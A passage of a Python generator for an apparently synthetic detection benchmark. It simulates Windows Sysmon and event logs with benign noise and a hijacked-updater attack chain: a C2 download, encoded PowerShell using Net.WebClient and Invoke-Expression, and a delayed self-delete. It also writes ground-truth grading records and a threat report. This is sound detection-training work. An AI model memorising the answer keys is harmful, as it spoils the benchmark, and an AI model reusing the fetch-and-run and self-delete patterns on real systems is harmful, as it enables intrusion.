         '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe_S-1-5-21-3623811015-3361044348-30300820-1104 Global\\UsGthrCtrlFltPipeMssGthrPipe_S-1-5-21-3623811015-3361044348-30300820-1104 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"'),
        ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe"),
        ("C:\\Windows\\System32\\sppsvc.exe", "C:\\Windows\\system32\\sppsvc.exe"),
        (MPCMDRUN,
         '"' + MPCMDRUN + '" SignaturesUpdateService -ScheduleJob -UnmanagedUpdate'),
        ("C:\\Windows\\System32\\CompatTelRunner.exe",
         "C:\\Windows\\system32\\compattelrunner.exe -maintenance"),
        ("C:\\Windows\\System32\\conhost.exe",
         "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
    ]
    user_children = [
        (CHROME, '"' + CHROME + '" --type=renderer --lang=en-US --renderer-client-id=%d --time-ticks-at-unix-epoch=-1710126482112367 --launch-time-ticks=%d --field-trial-handle=1896,i,%d,2917441412,262144 /prefetch:1'),
        (CHROME, '"' + CHROME + '" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=%d --field-trial-handle=1896,i,%d,2917441412,262144 /prefetch:%d'),
        ("C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
         '"C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --type=renderer --autoplay-policy=no-user-gesture-required --renderer-client-id=%d --launch-time-ticks=%d --mojo-platform-channel-handle=%d /prefetch:1'),
        ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
         '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /recycle'),
        ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
         '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\jdoe\\Documents\\Q%d-report-%d.docx" /o "%d"'),
        (EDITOR, '"' + EDITOR + '" "C:\\Users\\jdoe\\Documents\\draft-%d.qed" /pid %d /s %d'),
        ("C:\\Windows\\System32\\notepad.exe",
         '"C:\\Windows\\system32\\NOTEPAD.EXE" C:\\Users\\jdoe\\Desktop\\notes-%d.txt'),
        ("C:\\Windows\\System32\\RuntimeBroker.exe",
         "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding"),
        ("C:\\Windows\\System32\\backgroundTaskHost.exe",
         '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca'),
    ]
    domains = [("www.google.com", "142.250.185.%d"), ("teams.microsoft.com", "52.113.194.%d"),
               ("outlook.office365.com", "40.99.150.%d"), ("login.microsoftonline.com", "20.190.160.%d"),
               ("www.bbc.co.uk", "151.101.0.%d"), ("github.com", "140.82.121.%d"),
               ("wdcp.microsoft.com", "20.42.65.%d"), ("settings-win.data.microsoft.com", "51.104.136.%d"),
               ("ctldl.windowsupdate.com", "93.184.221.%d"), ("www.quilltech.example", "192.0.2.%d")]
    sysmon_net_images = {CHROME, "C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
                         "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"}

    t = t_start + 7 * SEC + 1234567
    src_port = 50000
    while t < t_end:
        day = jdoe_session(t)
        if day is not None and rng.chance(70):
            image, tmpl = rng.pick(user_children)
            args = tuple(1000 + rng.below(90000) for _ in range(tmpl.count("%d")))
            lid, lguid = jdoe_logons[day]
            p = Proc(image, c.noise_pid(), tmpl % args, DOMAIN + "\\jdoe",
                     lid, lguid, JDOE_SID, parent=explorers[day],
                     cwd="C:\\Users\\jdoe\\" if image != EDITOR else QE_DIR)
        else:
            image, cmd = rng.pick(sys_children)
            p = Proc(image, c.noise_pid(), cmd, SYSTEM_USER, 0x3e7,
                     "{9a4f3c2e-0000-0000-e703-000000000000}", "S-1-5-18",
                     parent=services, integrity="System", session=0)
        p.meta = meta_for(image)
        c.start(p, t)
        life = (1 + rng.below(600)) * SEC + rng.below(SEC)
        acts = rng.below(4) if p.image in sysmon_net_images else rng.below(2)
        for _ in range(acts):
            at = t + rng.below(life)
            dom, ipf = rng.pick(domains)
            ip = ipf % (1 + rng.below(250))
            dns = rng.chance(60)
            src_port = 50000 + (src_port - 50000 + 1 + rng.below(7)) % 15000
            conn_at = at + 35 * MS + rng.below(80 * MS)
            # The same draws either way (an event's thread ID is one): the
            # rest of the noise stays as it was.
            if p.image in NO_NETWORK_IMAGES:
                for _ in range(2 if dns else 1):
                    c.tid()
                continue
            if dns:
                c.dns(p, at, dom, "::ffff:%s;" % ip)
            c.connect(p, conn_at, ip, 443, src_port)
        if rng.chance(40):
            at = t + rng.below(life)
            if p.user == SYSTEM_USER:
                path = "C:\\Windows\\Temp\\%s-%08x.tmp" % (
                    p.image.rsplit("\\", 1)[-1].split(".")[0], rng.next() >> 32)
            else:
                path = "C:\\Users\\jdoe\\AppData\\Local\\Temp\\%s%04X.tmp" % (
                    rng.pick(["chrome_", "tmp", "~DF", "Teams_"]), rng.below(65536))
            c.file_create(p, at, path)
        c.exit(p, t + life)
        t += (20 + rng.below(50)) * SEC + rng.below(SEC)

    # Service logons (type 5) and service state changes.
    t = t_start + 11 * SEC
    services_names = [("Windows Update", "wuauserv"),
                      ("Background Intelligent Transfer Service", "BITS"),
                      ("Windows Modules Installer", "TrustedInstaller"),
                      ("Microsoft Defender Antivirus Network Inspection Service", "WdNisSvc"),
                      ("Delivery Optimization", "DoSvc"),
                      ("Windows Error Reporting Service", "WerSvc"),
                      ("Software Protection", "sppsvc"),
                      ("Google Update Service (gupdate)", "gupdate"),
                      ("Diagnostic Policy Service", "DPS"),
                      ("Windows Store Install Service", "InstallService")]
    while t < t_end:
        name, short = rng.pick(services_names)
        c.logon(t, "S-1-5-18", "SYSTEM", 0x3e7, "{00000000-0000-0000-0000-000000000000}", 5)
        c.scm(7036, t + 200 * MS, [["param1", name], ["param2", "running"]])
        c.scm(7036, t + (30 + rng.below(600)) * SEC, [["param1", name], ["param2", "stopped"]])
        if rng.chance(4):
            c.scm(7040, t + 90 * MS, [["param1", name], ["param2", "demand start"],
                                      ["param3", "auto start"], ["param4", short]],
                  user=JDOE_SID if rng.chance(10) else "S-1-5-18")
        t += (5 + rng.below(16)) * 60 * SEC + rng.below(SEC)
    # Defender's kernel-mode driver is reinstalled after definition updates.
    for d in range(3):
        tt = T("2024-03-11T03:12:44.1830000Z") + d * 86400 * SEC + rng.below(3600 * SEC)
        c.scm(7045, tt, [["ServiceName", "MpKslDrv"],
                         ["ImagePath", "\\??\\C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\%s\\MpKslDrv.sys"
                          % guid_from("defs", d).upper()],
                         ["ServiceType", "kernel mode driver"], ["StartType", "demand start"],
                         ["AccountName", ""]], user="S-1-5-18")
        mp = Proc("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MpCmdRun.exe",
                  c.noise_pid(),
                  '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24020.7-0\\MpCmdRun.exe" Scan -ScheduleJob -ScanTrigger 55 -IdleScheduledJob',
                  SYSTEM_USER, 0x3e7, "{9a4f3c2e-0000-0000-e703-000000000000}", "S-1-5-18",
                  parent=services, integrity="System", session=0)
        mp.meta = ("4.18.24020.7 (WinBuild.160101.0800)", "Microsoft Malware Protection Command Line Utility",
                   "Microsoft\u00ae Windows\u00ae Operating System", "Microsoft Corporation", "MpCmdRun.exe")
        c.start(mp, tt + 40 * SEC)
        c.exit(mp, tt + (40 + 600 + rng.below(900)) * SEC)

    # --- GoogleUpdate, hourly, as SYSTEM -----------------------------------
    t = T("2024-03-11T00:17:03.0000000Z")
    runs = 0
    while t < t_end:
        g = Proc(GUPDATE, c.noise_pid(), GUPDATE_CMD, SYSTEM_USER, 0x3e7,
                 "{9a4f3c2e-0000-0000-e703-000000000000}", "S-1-5-18",
                 parent=sched, integrity="System", session=0)
        g.meta = PROGRAM_META[GUPDATE]
        tag = "google%d" % runs if runs in (0, 33) else None
        c.start(g, t + rng.below(SEC), tag=tag)
        c.dns(g, t + 1 * SEC + 310 * MS, "update.googleapis.com",
              "::ffff:%s;" % GOOGLE_IP)
        c.connect(g, t + 1 * SEC + 450 * MS, GOOGLE_IP, 443,
                  50000 + rng.below(15000), tag=tag)
        end = t + 6 * SEC + rng.below(3 * SEC)
        if runs == 33:   # 2024-03-12T09:17Z: an update is installed
            inst = "C:\\Program Files (x86)\\Google\\Update\\Install\\%s\\" % guid_from("ginst").upper()
            setup = inst + "122.0.6261.129_chrome_installer.exe"
            c.file_create(g, t + 9 * SEC, setup, tag=tag)
            s = Proc(setup, c.noise_pid(),
                     '"%s" --install-archive="%sCR_F1A2B.tmp\\CHROME.PACKED.7Z" --verbose-logging --do-not-launch-chrome --system-level' % (setup, inst),
                     SYSTEM_USER, 0x3e7, "{9a4f3c2e-0000-0000-e703-000000000000}", "S-1-5-18",
                     parent=g, integrity="System", session=0, cwd=inst)
            s.meta = ("122.0.6261.129", "Google Chrome Installer", "Google Chrome Installer",
                      "Google LLC", "mini_installer.exe")
            c.start(s, t + 11 * SEC, tag=tag + "-setup")
            c.file_create(s, t + 19 * SEC, CHROME)
            c.exit(s, t + 47 * SEC)
            c.file_delete(g, t + 49 * SEC, setup, s.hashes)
            end = t + 52 * SEC
            c.truth["benign"].append({
                "time": iso(t + 11 * SEC), "kind": "other_vendor_updater",
                "description": "GoogleUpdate.exe writes and runs its own Chrome setup in "
                               "C:\\Program Files (x86)\\Google\\Update\\Install\\ and deletes it after",
                "image": GUPDATE, "evidence_tags": ["google33:sysmon11", "google33-setup:sysmon1"],
                "must_not_be": "high"})
        c.exit(g, end)
        t += 3600 * SEC
        runs += 1
    c.truth["benign"].insert(0, {
        "time": iso(T("2024-03-11T00:17:03.0000000Z")), "kind": "other_vendor_updater",
        "description": "GoogleUpdate.exe /ua /installsource scheduler runs hourly from the "
                       "Task Scheduler and contacts %s:443" % GOOGLE_IP,
        "image": GUPDATE, "ip": GOOGLE_IP,
        "evidence_tags": ["google0:sysmon1", "google0:sysmon3"], "must_not_be": "high"})

    # --- IT inventory script, daily at 09:30Z as SYSTEM (benign noise) ------
    inv_path = "C:\\ProgramData\\CorpIT\\Collect-Inventory.ps1"
    inv_script = "\r\n".join([
        "# Corp IT hardware and software inventory (runs daily from Task Scheduler)",
        "$out = 'C:\\ProgramData\\CorpIT\\inventory-' + (Get-Date -Format yyyyMMdd) + '.json'",
        "$inv = [ordered]@{",
        "    Computer = $env:COMPUTERNAME",
        "    OS       = (Get-CimInstance Win32_OperatingSystem | Select-Object Caption, Version, BuildNumber)",
        "    Disks    = (Get-CimInstance Win32_LogicalDisk | Select-Object DeviceID, Size, FreeSpace)",
        "    Software = (Get-ItemProperty 'HKLM:\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\*' |",
        "                Select-Object DisplayName, DisplayVersion, Publisher)",
        "    Hotfixes = (Get-HotFix | Select-Object HotFixID, InstalledOn)",
        "}",
        "$inv | ConvertTo-Json -Depth 4 | Set-Content -Path $out -Encoding UTF8"])
    for d in range(3):
        st = T("2024-03-11T09:30:04.0000000Z") + d * 86400 * SEC + rng.below(5 * SEC)
        cmdline = ('"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" '
                   '-NoProfile -NonInteractive -File "%s"' % inv_path)
        p = Proc(POWERSHELL, c.noise_pid(), cmdline, SYSTEM_USER, 0x3e7,
                 "{9a4f3c2e-0000-0000-e703-000000000000}", "S-1-5-18",
                 parent=sched, integrity="System", session=0,
                 meta=PROGRAM_META[POWERSHELL])
        c.start(p, st, tag="inventory" if d == 0 else None)
        cmds = [(st + (1600 + 150 * i) * MS, name,
                 'CommandInvocation(%s): "%s"\r\n' % (name, name), name)
                for i, name in enumerate(["Get-CimInstance", "Get-ItemProperty",
                                          "Get-HotFix", "ConvertTo-Json",
                                          "Set-Content"])]
        c.ps_session(p, st, cmds, [(st + 1450 * MS, inv_script, inv_path, 5, None)],
                     "S-1-5-18", "NT AUTHORITY\\SYSTEM", st + 9 * SEC)
        c.file_create(p, st + 8 * SEC, "C:\\ProgramData\\CorpIT\\inventory-2024031%d.json" % (1 + d))
        c.exit(p, st + 9 * SEC + 100 * MS)
    c.truth["benign"].append({
        "time": iso(T("2024-03-11T09:30:04.0000000Z")), "kind": "scheduled_powershell",
        "description": "Corp IT inventory script %s runs daily at 09:30Z as SYSTEM "
                       "(powershell.exe -NoProfile -NonInteractive -File, not encoded)" % inv_path,
        "image": POWERSHELL, "evidence_tags": ["inventory:sysmon1", "inventory:4688"],
        "must_not_be": "high"})

    # --- Administrator's benign PowerShell, 2024-03-11 ~10:15Z --------------
    adm_lid, adm_guid = 0x5d2e11, guid_from("adm-logon")
    t = T("2024-03-11T10:12:31.5508000Z")
    c.logon(t, ADM_SID, "adm-mkeller", adm_lid, adm_guid, 10, ip="10.20.5.17",
            proc=("0x3cc", "C:\\Windows\\System32\\svchost.exe"),
            lproc="User32 ", elevated=True)
    adm_ex = Proc(EXPLORER, c.noise_pid(), "C:\\Windows\\Explorer.EXE",
                  DOMAIN + "\\adm-mkeller", adm_lid, adm_guid, ADM_SID,
                  parent=services, integrity="High", session=2)
    adm_ex.meta = meta_for(EXPLORER)
    c.start(adm_ex, t + 4 * SEC)
    for n, (st, script) in enumerate([
            (T("2024-03-11T10:15:02.3000000Z"), "Get-Service | Where-Object Status -eq Running"),
            (T("2024-03-11T10:16:10.7000000Z"), "Get-EventLog -LogName System -Newest 50")]):
        cmd = 'powershell.exe -NoProfile -Command "%s"' % script
        p = Proc(POWERSHELL, c.noise_pid(), cmd, DOMAIN + "\\adm-mkeller",
                 adm_lid, adm_guid, ADM_SID, parent=adm_ex, integrity="High",
                 session=2, cwd="C:\\Users\\adm-mkeller\\")
        p.meta = PROGRAM_META[POWERSHELL]
        tag = "admin_ps%d" % (n + 1)
        c.start(p, st, tag=tag)
        cmds = script.split(" | ")
        names = [x.split(" ")[0] for x in cmds]
        payload = "\r\n".join('CommandInvocation(%s): "%s"' % (x, x) for x in names) + "\r\n"
        c.ps_session(p, st, [(st + 1412 * MS, names[0], payload, script)],
                     [(st + 1388 * MS, script, "", 5, tag)], ADM_SID,
                     DOMAIN + "\\adm-mkeller", st + 2950 * MS, tag=tag)
        c.exit(p, st + 3 * SEC)
        c.truth["benign"].append({
            "time": iso(st), "kind": "admin_powershell",
            "description": "adm-mkeller runs %s (not encoded, not hidden)" % cmd,
            "image": POWERSHELL, "pid": p.pid, "command_line": cmd,
            "evidence_tags": [tag + ":sysmon1", tag + ":4688", tag + ":400", tag + ":4104:1"],
            "must_not_be": "high"})
    c.logoff(T("2024-03-11T10:21:48.0017000Z"), ADM_SID, "adm-mkeller", adm_lid, 10)

    # --- 7-Zip installer, 2024-03-11 16:40Z: deletes its own temp files ------
    d0 = 0
    lid, lguid = jdoe_logons[d0]
    chrome = Proc(CHROME, c.noise_pid(), '"%s"' % CHROME, DOMAIN + "\\jdoe", lid, lguid,
                  JDOE_SID, parent=explorers[d0], cwd="C:\\Program Files\\Google\\Chrome\\Application\\")
    chrome.meta = ("122.0.6261.112", "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe")
    c.start(chrome, T("2024-03-11T16:38:12.9031000Z"))
    t = T("2024-03-11T16:40:00.0000000Z")
    c.dns(chrome, t - 2 * SEC, "www.7-zip.org", "::ffff:159.65.89.65;")
    c.connect(chrome, t - 1 * SEC - 700 * MS, "159.65.89.65", 443, 51733)
    c.file_create(chrome, t, SEVENZIP, tag="7zip_download")
    c.stream_hash(chrome, t + 64 * MS, SEVENZIP + ":Zone.Identifier",
                  "[ZoneTransfer]  ZoneId=3  ReferrerUrl=https://www.7-zip.org/download.html  "
                  "HostUrl=https://www.7-zip.org/a/7z2301-x64.exe  ", t)
    z = Proc(SEVENZIP, c.noise_pid(), '"%s" ' % SEVENZIP, DOMAIN + "\\jdoe", lid, lguid,
             JDOE_SID, parent=explorers[d0], integrity="High", cwd="C:\\Users\\jdoe\\Downloads\\")
    z.meta = PROGRAM_META[SEVENZIP]
    zt = T("2024-03-11T16:41:12.4000000Z")
    c.start(z, zt, tag="7zip")
    extracted = ["7zFM.exe", "7z.dll", "7z.exe", "7zG.exe", "Uninstall.exe"]
    for i, f in enumerate(extracted):
        c.file_create(z, zt + (900 + 40 * i) * MS, SEVENZIP_TMP + f)
    for i, f in enumerate(["7zFM.exe", "7z.dll", "7z.exe", "7zG.exe", "Uninstall.exe", "7-zip.chm"]):
        c.file_create(z, zt + (3 * SEC) + 120 * i * MS, "C:\\Program Files\\7-Zip\\" + f)
    for i, f in enumerate(x for x in extracted if x.endswith(".exe")):
        c.file_delete(z, zt + 7 * SEC + 30 * i * MS, SEVENZIP_TMP + f,
                      fake_hashes("7zip-" + f), tag="7zip_cleanup%d" % i)
    c.exit(z, zt + 8 * SEC + 200 * MS, tag="7zip")
    c.exit(chrome, T("2024-03-11T16:52:40.1200000Z"))
    c.truth["benign"].append({
        "time": iso(zt + 7 * SEC), "kind": "installer_cleanup",
        "description": "7z2301-x64.exe (downloaded by the browser at 2024-03-11T16:40:00Z) "
                       "deletes the files it extracted to %s: deletion, not self-deletion" % SEVENZIP_TMP,
        "image": SEVENZIP, "pid": z.pid, "path": SEVENZIP_TMP,
        "evidence_tags": ["7zip:sysmon1", "7zip_cleanup0:sysmon23", "7zip_cleanup1:sysmon23",
                          "7zip_cleanup2:sysmon23", "7zip_cleanup3:sysmon23"],
        "must_not_be": "high"})
    c.truth["benign"].append({
        "time": iso(t), "kind": "browser_download",
        "description": "chrome.exe downloads 7z2301-x64.exe from https://www.7-zip.org/a/7z2301-x64.exe "
                       "(Zone.Identifier ZoneId=3)", "image": CHROME, "path": SEVENZIP,
        "evidence_tags": ["7zip_download:sysmon11"], "must_not_be": "high"})

    # --- The benign updater run, 2024-03-12 ----------------------------------
    lid, lguid = jdoe_logons[1]
    qe = Proc(UPDATER, 4312, UPDATER_CMD, DOMAIN + "\\jdoe", lid, lguid, JDOE_SID,
              parent=sched, meta=PROGRAM_META[UPDATER])
    c.start(qe, T("2024-03-12T14:00:00.5000000Z"), tag="benign_updater_start")
    c.dns(qe, T("2024-03-12T14:00:01.9000000Z"), VENDOR_HOST, "::ffff:%s;" % VENDOR_IP,
          tag="benign_dns")
    c.connect(qe, T("2024-03-12T14:00:02.1000000Z"), VENDOR_IP, 443, 49733,
              dst_host=VENDOR_HOST, tag="benign_connect")
    c.file_create(qe, T("2024-03-12T14:00:05.3000000Z"), PATCH, tag="benign_write")
    patch = Proc(PATCH, 4420, '"%s" /quiet' % PATCH, DOMAIN + "\\jdoe", lid, lguid, JDOE_SID,
                 parent=qe, integrity="High", cwd=TEMP + "QEUpd\\", meta=PROGRAM_META[PATCH],
                 hashes=fake_hashes(PATCH))
    c.start(patch, T("2024-03-12T14:00:07.0000000Z"), tag="benign_patch_start")
    c.file_create(patch, T("2024-03-12T14:00:20.4000000Z"), EDITOR, tag="benign_patch_replace")
    c.exit(patch, T("2024-03-12T14:00:21.0000000Z"), tag="benign_patch_exit")
    c.file_delete(qe, T("2024-03-12T14:00:40.0000000Z"), PATCH, patch.hashes, tag="benign_delete")
    c.exit(qe, T("2024-03-12T14:00:40.4000000Z"))
    for when, kind, image, tags, desc in [
            ("2024-03-12T14:00:00.5000000Z", "updater_start", UPDATER,
             ["benign_updater_start:sysmon1", "benign_updater_start:4688"],
             "Task Scheduler starts QEUpdate.exe (PID 4312), the legitimate run a day earlier"),
            ("2024-03-12T14:00:01.9000000Z", "dns_query", UPDATER, ["benign_dns:sysmon22"],
             "QEUpdate.exe resolves %s to %s" % (VENDOR_HOST, VENDOR_IP)),
            ("2024-03-12T14:00:02.1000000Z", "network_connect", UPDATER,
             ["benign_connect:sysmon3"],
             "QEUpdate.exe connects to the vendor's server %s:443 (%s)" % (VENDOR_IP, VENDOR_HOST)),
            ("2024-03-12T14:00:05.3000000Z", "file_write", UPDATER, ["benign_write:sysmon11"],
             "QEUpdate.exe writes the real patch QuillEdit_patch_3.2.1.exe"),
            ("2024-03-12T14:00:07.0000000Z", "process_start", PATCH,
             ["benign_patch_start:sysmon1", "benign_patch_start:4688"],
             "QEUpdate.exe starts QuillEdit_patch_3.2.1.exe /quiet (PID 4420)"),
            ("2024-03-12T14:00:21.0000000Z", "process_exit", PATCH,
             ["benign_patch_replace:sysmon11", "benign_patch_exit:sysmon5",
              "benign_patch_exit:4689"],
             "the patch replaces QuillEdit.exe and exits"),
            ("2024-03-12T14:00:40.0000000Z", "file_delete", UPDATER, ["benign_delete:sysmon23"],
             "QEUpdate.exe deletes the patch it downloaded (deletion by the parent, not self-deletion)")]:
        c.truth["benign"].append({"time": when, "kind": kind, "group": "benign_updater_run",
                                  "description": desc, "image": image,
                                  "evidence_tags": tags, "must_not_be": "high"})

    # --- The attack, 2024-03-13 ----------------------------------------------
    lid, lguid = jdoe_logons[2]
    steps = c.truth["steps"]
    qe = Proc(UPDATER, 5120, UPDATER_CMD, DOMAIN + "\\jdoe", lid, lguid, JDOE_SID,
              parent=sched, meta=PROGRAM_META[UPDATER])
    t1 = T("2024-03-13T14:00:00.5000000Z")
    c.start(qe, t1, tag="step1")
    steps.append({"step": 1, "kind": "updater_start", "time": iso(t1),
                  "image": UPDATER, "pid": 5120, "parent_image": SCHED_IMAGE,
                  "command_line": UPDATER_CMD, "evidence_tags": ["step1:sysmon1", "step1:4688"]})
    t2 = T("2024-03-13T14:02:11.4000000Z")
    c.connect(qe, t2, C2_1, 80, 49811, tag="step2")
    steps.append({"step": 2, "kind": "network_connect", "time": iso(t2),
                  "image": UPDATER, "pid": 5120, "ip": C2_1, "port": 80,
                  "source": "%s:49811" % MACHINE_IP, "url": URL_1,
                  "evidence_tags": ["step2:sysmon3"]})
    t3 = T("2024-03-13T14:02:13.2000000Z")
    c.file_create(qe, t3, PAYLOAD, tag="step3")
    steps.append({"step": 3, "kind": "file_write", "time": iso(t3), "image": UPDATER,
                  "pid": 5120, "path": PAYLOAD, "evidence_tags": ["step3:sysmon11"]})
    payload = Proc(PAYLOAD, 6644, '"%s"' % PAYLOAD, DOMAIN + "\\jdoe", lid, lguid, JDOE_SID,
                   parent=qe, cwd=QE_DIR, hashes=c.payload_hashes["sysmon"])
    t4 = T("2024-03-13T14:02:15.6000000Z")
    c.start(payload, t4, tag="step4")
    steps.append({"step": 4, "kind": "process_start", "time": iso(t4), "image": PAYLOAD,
                  "pid": 6644, "parent_image": UPDATER, "parent_pid": 5120,
                  "hashes": c.payload_hashes["sysmon"],
                  "evidence_tags": ["step4:sysmon1", "step4:4688"]})
    c.exit(qe, T("2024-03-13T14:02:16.3000000Z"))
    ps = Proc(POWERSHELL, 7012, PS_ATTACK_CMD, DOMAIN + "\\jdoe", lid, lguid, JDOE_SID,
              parent=payload, cwd=QE_DIR, meta=PROGRAM_META[POWERSHELL])
    t5 = T("2024-03-13T14:02:17.0120000Z")
    c.start(ps, t5, tag="step5")
    t6 = T("2024-03-13T14:02:18.9000000Z")
    stage2 = stage2_script()
    t_sb1 = T("2024-03-13T14:02:18.4100000Z")
    t_sb2 = T("2024-03-13T14:02:19.3120000Z")
    c.ps_session(ps, t5,
                 [(T("2024-03-13T14:02:18.6200000Z"), "New-Object",
                   'CommandInvocation(New-Object): "New-Object"\r\n'
                   'ParameterBinding(New-Object): name="TypeName"; value="Net.WebClient"\r\n',
                   STAGE1_SCRIPT),
                  (T("2024-03-13T14:02:19.2900000Z"), "Invoke-Expression",
                   'CommandInvocation(Invoke-Expression): "Invoke-Expression"\r\n'
                   'ParameterBinding(Invoke-Expression): name="Command"; value="%s"\r\n'
                   % stage2[:200].replace("\r\n", " "), STAGE1_SCRIPT)],
                 [(t_sb1, STAGE1_SCRIPT, "", 3, "step5"),
                  (t_sb2, stage2, "", 3, "stage2")],
                 JDOE_SID, DOMAIN + "\\jdoe", T("2024-03-13T14:02:41.7000000Z"), tag="step5")
    nparts = (len(stage2) + 14999) // 15000
    steps.append({"step": 5, "kind": "encoded_powershell", "time": iso(t5),
                  "image": POWERSHELL, "pid": 7012, "parent_image": PAYLOAD,
                  "parent_pid": 6644, "command_line": PS_ATTACK_CMD,
                  "decoded_script": STAGE1_SCRIPT,
                  "stage2": {"script_block_id": guid_from("sb", 7012, t_sb2, stage2[:40])[1:-1],
                             "parts": nparts, "time": iso(t_sb2),
                             "sha256": hashlib.sha256(stage2.encode()).hexdigest()},
                  "evidence_tags": ["step5:sysmon1", "step5:4688", "step5:400",
                                    "step5:4104:1", "step5:4103:1", "step5:800:1"] +
                  ["stage2:4104:%d" % i for i in range(1, nparts + 1)]})
    c.connect(ps, t6, C2_2, 80, 49814, tag="step6")
    steps.append({"step": 6, "kind": "network_connect", "time": iso(t6), "image": POWERSHELL,
                  "pid": 7012, "ip": C2_2, "port": 80, "url": URL_2,
                  "evidence_tags": ["step6:sysmon3", "step5:4104:1"]})
    cmd = Proc(CMD, 7236, SELF_DELETE_CMD, DOMAIN + "\\jdoe", lid, lguid, JDOE_SID,
               parent=payload, cwd=QE_DIR, meta=PROGRAM_META[CMD])
    t7 = T("2024-03-13T14:02:25.2000000Z")
    c.start(cmd, t7, tag="step7")
    ping = Proc(PING, 7244, "ping  127.0.0.1 -n 3 ", DOMAIN + "\\jdoe", lid, lguid, JDOE_SID,
                parent=cmd, cwd=QE_DIR, meta=PROGRAM_META[PING])
    c.start(ping, T("2024-03-13T14:02:25.3000000Z"), tag="step7-ping")
    c.exit(payload, T("2024-03-13T14:02:25.8000000Z"), tag="step7-payload")
    c.exit(ping, T("2024-03-13T14:02:27.4000000Z"))
    steps.append({"step": 7, "kind": "self_delete_command", "time": iso(t7), "image": CMD,
                  "pid": 7236, "parent_image": PAYLOAD, "parent_pid": 6644,
                  "command_line": SELF_DELETE_CMD,
                  "ping": {"pid": 7244, "time": "2024-03-13T14:02:25.3000000Z"},
                  "payload_exit": "2024-03-13T14:02:25.8000000Z",
                  "evidence_tags": ["step7:sysmon1", "step7:4688", "step7-ping:sysmon1",
                                    "step7-payload:sysmon5"]})
    t8 = T("2024-03-13T14:02:27.5000000Z")
    c.file_delete(cmd, t8, PAYLOAD, c.payload_hashes["sysmon"], tag="step8")
    c.exit(cmd, T("2024-03-13T14:02:27.6000000Z"))
    c.exit(ps, T("2024-03-13T14:02:41.7000000Z"))
    steps.append({"step": 8, "kind": "self_delete", "time": iso(t8), "image": CMD,
                  "pid": 7236, "path": PAYLOAD, "hashes": c.payload_hashes["sysmon"],
                  "evidence_tags": ["step8:sysmon23"]})


# ---------------------------------------------------------------------------
# Output
# ---------------------------------------------------------------------------
def payload_hashes(path):
    with open(path, "rb") as f:
        data = f.read()
    h = {"md5": hashlib.md5(data).hexdigest(), "sha1": hashlib.sha1(data).hexdigest(),
         "sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
    # The fake PE has no import table: Sysmon prints an all-zero IMPHASH.
    h["sysmon"] = "SHA1=%s,MD5=%s,SHA256=%s,IMPHASH=%s" % (
        h["sha1"].upper(), h["md5"].upper(), h["sha256"].upper(), "0" * 32)
    return h


def threat_report(h):
    return "\n".join([
        "# Threat Report: 2024-03-14: OSINT - Hijacked QuillEdit updater delivers a PowerShell stager (casetrail reference case)",
        "",
        "",
        "## Key Intelligence",
        "* Date: 2024-03-14",
        "* Threat Level: 3 (Low)",
        "* Tags: tlp:white, veris:actor:motive=\"Espionage\", casetrail:synthetic",
        "",
        "---",
        "",
        "## Indicators of Compromise (IOCs)",
        "### External analysis",
        "* link: https://intel.example/reports/2024-03-quilledit-updater-hijack",
        "* text: A synthetic intelligence note written for the casetrail reference case. "
        "The update mechanism of a third-party editing tool (QuillEdit) was used to deliver a "
        "small downloader to workstations. The updater fetched an executable disguised as "
        "logo.png from an attacker server, wrote it to the user's temporary folder and started "
        "it. The downloader launched a hidden PowerShell with an encoded command that pulled a "
        "second stage from a second server, then deleted itself with a delayed cmd.exe command.",
        "",
        "None of the names, addresses or files in this note belong to a real incident.",
        "* link: https://intel.example/file/%s/analysis/ — the malicious sample downloaded through the third-party updater - Xchecked via VT: %s" % (h["sha256"], h["sha1"]),
        "",
        "### Network activity",
        "* url: %s — (used for initial infection and C&C communication)" % URL_1,
        "* url: %s — (used for initial infection and C&C communication)" % URL_2,
        "* ip-dst: %s — used for initial infection and C&C communication" % C2_1,
        "* ip-dst: %s — used for initial infection and C&C communication" % C2_2,
        "",
        "### Payload delivery",
        "* sha1: %s — the malicious sample downloaded through the third-party updater" % h["sha1"],
        "* md5: %s — the malicious sample downloaded through the third-party updater" % h["md5"],
        "* sha256: %s — the malicious sample downloaded through the third-party updater - Xchecked via VT: %s" % (h["sha256"], h["sha1"]),
        ""])


# What Windows logs with its default audit policy and no Sysmon: (channel,
# event id) pairs that are not written, and for PowerShell Operational the
# one 4104 level it writes anyway (3, Warning: suspicious script blocks).
DEFAULT_LOGGING_DROPS = {
    (SECURITY[0], 4688), (SECURITY[0], 4689),   # process creation auditing is off
    (PSOP[0], 4103),                             # module logging is off
    (PSCLASSIC[0], 800),                         # module logging is off
}
AUTO_LOGGED_4104_LEVEL = 3


def default_logging_keeps(ev):
    ch, eid = ev["channel"], ev["eid"]
